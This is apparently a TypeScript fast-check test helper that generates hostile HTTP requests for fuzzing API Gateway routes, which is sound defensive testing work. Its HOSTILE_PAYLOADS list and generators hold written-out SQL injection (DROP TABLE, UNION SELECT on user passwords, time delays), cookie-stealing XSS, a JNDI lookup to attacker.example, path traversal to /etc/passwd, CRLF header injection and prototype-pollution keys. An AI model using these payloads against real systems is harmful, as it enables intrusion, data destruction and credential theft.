import fc from 'fast-check';

/**
 * Payloads an attacker or a broken client sends: SQL injection in Oracle's and SQLite's dialects (bind
 * placeholders, comments, PL/SQL, time delays), script and template injection, path traversal, header and
 * log injection (CR/LF), NUL bytes, JSON breakers and prototype pollution keys.
 */
export const HOSTILE_PAYLOADS = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "PROD-101' --",
  "PROD-101'; DROP TABLE product_prices; --",
  "1' UNION SELECT product_id, price, currency FROM product_prices --",
  "' UNION SELECT username, password, NULL FROM all_users --",
  "'||(SELECT banner FROM v$version WHERE ROWNUM=1)||'",
  'BEGIN DBMS_LOCK.SLEEP(10); END;',
  "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',10) --",
  "'; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
  ':id',
  ':1',
  '/* comment */ PROD-101',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}#{7*7}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00%0d%0aSet-Cookie:%20pwned=1',
  '\r\nX-Injected: 1\r\n\r\n',
  'line1\nline2\u2028line3\u2029',
  '\u0000\u0001\u0002\u001b[31mred\u001b[0m',
  '\ud800',
  '\u202Eevil\u202C',
  'ＰＲＯＤ－１０１',
  'PROD\u200B-101',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[',
  '-1',
  '1e309',
  'NaN',
  'null',
  'undefined',
  'true',
  '',
  ' ',
] as const;

/** Characters that break parsers, terminals and logs: C0/C1 controls, DEL, BOM, bidi overrides, separators. */
const controlCharacter = fc
  .oneof(
    fc.integer({ min: 0x00, max: 0x1f }),
    fc.integer({ min: 0x7f, max: 0x9f }),
    fc.constantFrom(0xfeff, 0x202e, 0x2028, 0x2029, 0x200b),
  )
  .map((code) => String.fromCharCode(code));

/** A value repeated to `length` characters: the huge inputs (API Gateway allows ~10 KB of query, direct invokes more). */
const huge = fc
  .tuple(
    fc.constantFrom(...HOSTILE_PAYLOADS.filter((payload) => payload.length > 0)),
    fc.integer({ min: 1_000, max: 12_000 }),
  )
  .map(([payload, length]) => payload.repeat(Math.ceil(length / payload.length)).slice(0, length));

/** Any string a hostile caller could put in a parameter, header or body. */
export const hostileString = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_PAYLOADS) },
    { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
    { weight: 2, arbitrary: fc.string({ unit: controlCharacter, minLength: 1, maxLength: 20 }) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.string({ unit: 'grapheme-ascii', maxLength: 12 }), fc.constantFrom(...HOSTILE_PAYLOADS))
        .map(([prefix, payload]) => `${prefix}${payload}`),
    },
    { weight: 1, arbitrary: huge },
  );

/** Parameter or header names: real ones, case variants, hostile ones. */
export const hostileName = (known: readonly string[] = []): fc.Arbitrary<string> =>
  fc.oneof(
    ...(known.length > 0
      ? [fc.constantFrom(...known), fc.constantFrom(...known).map((name) => name.toUpperCase())]
      : []),
    fc.constantFrom(
      'debug',
      'admin',
      'callback',
      'sort',
      '__proto__',
      'constructor',
      'id[]',
      'id%00',
      "id'--",
      '<b>',
    ),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
  );

/** One query parameter occurrence list: a single value, or the parameter repeated (`?id=a&id=b`). */
const occurrences = (value: fc.Arbitrary<string>): fc.Arbitrary<string | string[]> =>
  fc.oneof(
    { weight: 4, arbitrary: value },
    { weight: 1, arbitrary: fc.array(value, { minLength: 2, maxLength: 4 }) },
  );

/**
 * Query strings for a route whose parameters are `valid` (name to an arbitrary of valid values): each known
 * parameter is valid, hostile, repeated or missing, and unknown or hostile parameters are sometimes added.
 * `null` is "no query string at all".
 */
export const hostileQuery = (
  valid: Record<string, fc.Arbitrary<string>>,
): fc.Arbitrary<Record<string, string | string[]> | null> => {
  const known = Object.keys(valid);
  const knownParameters = fc.record(
    Object.fromEntries(
      known.map((name) => [
        name,
        fc.option(
          occurrences(
            fc.oneof({ weight: 2, arbitrary: valid[name]! }, { weight: 3, arbitrary: hostileString() }),
          ),
          {
            nil: undefined,
            freq: 5,
          },
        ),
      ]),
    ),
  );
  const extra = fc.dictionary(hostileName(), occurrences(hostileString()), { maxKeys: 3 });
  return fc.oneof(
    { weight: 1, arbitrary: fc.constant(null) },
    {
      weight: 12,
      arbitrary: fc
        .tuple(
          knownParameters,
          fc.oneof({ weight: 3, arbitrary: fc.constant({}) }, { weight: 1, arbitrary: extra }),
        )
        // fromEntries, not assignment: a generated `__proto__` must stay an own key, as in a parsed query.
        .map(([parameters, added]) =>
          Object.fromEntries(
            Object.entries({ ...added, ...parameters }).filter(
              (entry): entry is [string, string | string[]] => entry[1] !== undefined,
            ),
          ),
        ),
    },
  );
};

/** Sensitive and hostile headers: credentials, forged correlation ids, junk content types, hostile names. */
export const hostileHeaders = (): fc.Arbitrary<Record<string, string>> =>
  fc
    .record(
      {
        Authorization: fc.oneof(
          hostileString(),
          fc.string({ maxLength: 40 }).map((token) => `Bearer ${token}`),
        ),
        Cookie: hostileString(),
        'X-Api-Key': hostileString(),
        'X-Correlation-Id': fc.oneof(hostileString(), fc.stringMatching(/^[A-Za-z0-9._:-]{1,128}$/)),
        'Content-Type': fc.oneof(
          hostileString(),
          fc.constantFrom('text/plain; charset=utf-8', 'application/x-www-form-urlencoded'),
        ),
        Origin: hostileString(),
      },
      { requiredKeys: [] },
    )
    .chain((known) =>
      fc.dictionary(hostileName(), hostileString(), { maxKeys: 2 }).map((extra) => ({ ...extra, ...known })),
    );

/** Methods a route does not serve, as well as the one it does (weighted so most requests reach validation). */
export const hostileMethod = (served: string): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constant(served) },
    {
      weight: 3,
      arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'get'),
    },
    { weight: 1, arbitrary: hostileString() },
  );

/**
 * A JSON value of any shape, with hostile strings, hostile and prototype-polluting keys (`__proto__` stays an
 * own key, as JSON.parse makes it), numbers of every kind and nesting: a wrong value for any typed field.
 */
export const hostileJsonValue = (): fc.Arbitrary<unknown> =>
  fc.letrec((tie) => ({
    node: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      hostileString(),
      fc.integer(),
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('node'), { maxLength: 4 }),
      fc.dictionary(hostileName(['__proto__', 'constructor', 'value', 'version']), tie('node'), {
        maxKeys: 4,
      }),
    ),
  })).node;

/**
 * Request bodies for routes that take JSON (config-service's PUT): hostile text that is not JSON, JSON of the
 * wrong shape with hostile keys and values, prototype pollution, deep nesting and huge documents.
 */
export const hostileJsonBody = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: hostileJsonValue().map((document) => JSON.stringify(document)) },
    { weight: 2, arbitrary: hostileString() },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 1_000, max: 20_000 })
        .map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
    },
    { weight: 1, arbitrary: fc.constant('{"__proto__":{"isAdmin":true},"value":1}') },
  );

/** A whole API Gateway request: method, query, headers and body. */
export interface HostileRequest {
  method: string;
  query: Record<string, string | string[]> | null;
  headers: Record<string, string>;
  body: string | null;
}

export const hostileRequest = (options: {
  method: string;
  query: Record<string, fc.Arbitrary<string>>;
  body?: fc.Arbitrary<string>;
}): fc.Arbitrary<HostileRequest> =>
  fc.record({
    method: hostileMethod(options.method),
    query: hostileQuery(options.query),
    headers: hostileHeaders(),
    body: fc.option(options.body ?? hostileString(), { nil: null }),
  });
